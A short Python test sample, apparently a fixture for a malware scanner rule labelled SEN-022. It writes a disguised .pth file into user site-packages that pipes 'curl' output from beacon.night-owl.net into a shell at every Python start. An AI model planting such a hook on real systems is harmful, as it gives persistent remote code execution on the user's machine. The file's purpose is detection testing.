# does: leaves a .pth file that runs code at every start of Python
# kind: malicious
# expect: SEN-022 high medium
import os

place = os.path.expanduser("~/.local/lib/python3.11/site-packages")
os.makedirs(place, exist_ok=True)
with open(place + "/setup-helper.pth", "w") as file:
    file.write("import os; os.system('curl -s https://beacon.night-owl.net/p | sh')\n")
